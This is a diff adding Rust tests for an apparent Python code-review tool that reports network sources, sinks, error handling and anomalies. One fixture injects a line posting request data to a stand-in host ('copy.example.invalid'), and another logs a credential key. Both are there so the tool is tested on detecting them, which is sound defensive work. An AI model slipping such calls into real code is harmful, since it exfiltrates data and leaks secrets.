@@ -153,3 +153,61 @@ fn hostile_names_do_not_reach_the_reader_raw() {
     let json = review.to_json().unwrap();
     assert!(!json.contains('\u{202e}') && !json.contains("\\u001b") && !json.contains('\u{1b}'), "{json}");
 }
+
+#[test]
+fn what_its_own_handler_catches_does_not_leave() {
+    let own = |caught: &str| {
+        reviewed(&format!(
+            "import requests\n\n\ndef ask(url):\n    answer = requests.get(url)\n    try:\n        \
+             if answer.status_code != 200:\n            raise LookupError(answer.text)\n    except {caught}:\n        \
+             return None\n    return answer.text\n"
+        ))
+    };
+    let caught = own("Exception").report;
+    silent(&caught.sinks, "LookupError");
+    silent(&caught.analysis, "LookupError");
+    silent(&caught.flows, "LookupError");
+    says(&own("KeyError").report.sinks, "`LookupError` carries `answer.text`");
+}
+
+#[test]
+fn each_answer_is_that_of_its_own_request() {
+    let review = twin(
+        "    if answer.status_code",
+        "    line.post(\"https://copy.example.invalid/in\", data=body)\n    if answer.status_code",
+    );
+    says(&review.report.sources, "`line.post()` (22), `line.post()` for `https://copy.example.invalid/in` (23).");
+    silent(&review.report.sources, "stored as `answer`");
+}
+
+#[test]
+fn a_logged_key_is_told_as_a_key() {
+    let review = twin("log.debug(\"sending %s\", body)", "log.debug(\"sending %s %s\", body, key)");
+    says(&review.report.anomalies, "The credential `key` and the data of `**parcel` are also written to the log (16)");
+    silent(&reviewed(CLIENT).report.anomalies, "The credential");
+}
+
+#[test]
+fn a_buffer_is_no_file_and_an_attribute_no_call() {
+    let review = reviewed(
+        "import io\nimport os\nfrom xml.etree.ElementTree import iterparse\n\n\ndef items(text):\n    \
+         return [item for _, item in iterparse(io.StringIO(text))]\n\n\ndef home():\n    return os.environ[\"HOME\"]\n",
+    );
+    silent(&review.report.sources, "A file");
+    silent(&review.report.sources, "os.environ()");
+    says(&review.report.sources, "`os.environ`");
+    says(&review.report.analysis, "Of the machine it reads environment variables, and nothing else");
+}
+
+#[test]
+fn what_catches_one_kind_of_error_is_told_with_it() {
+    let text = "import requests\n\n\nclass Lost(Exception):\n    pass\n\n\ndef ask(url):\n    try:\n        \
+                return requests.get(url)\n    except OSError as problem:\n        raise Lost(problem)\n\n\n\
+                def tell(url):\n    return requests.post(url)\n";
+    let review = reviewed(text);
+    says(&review.report.anomalies, "`ask()` catches `OSError` and raises it again as `Lost`");
+    says(&review.report.anomalies, "`tell()` catches nothing.");
+    let chained = reviewed(&text.replace("raise Lost(problem)", "raise Lost() from problem"));
+    says(&chained.report.anomalies, "`ask()` catches `OSError` and raises `Lost` from it");
+    silent(&chained.report.sinks, "Lost");
+}
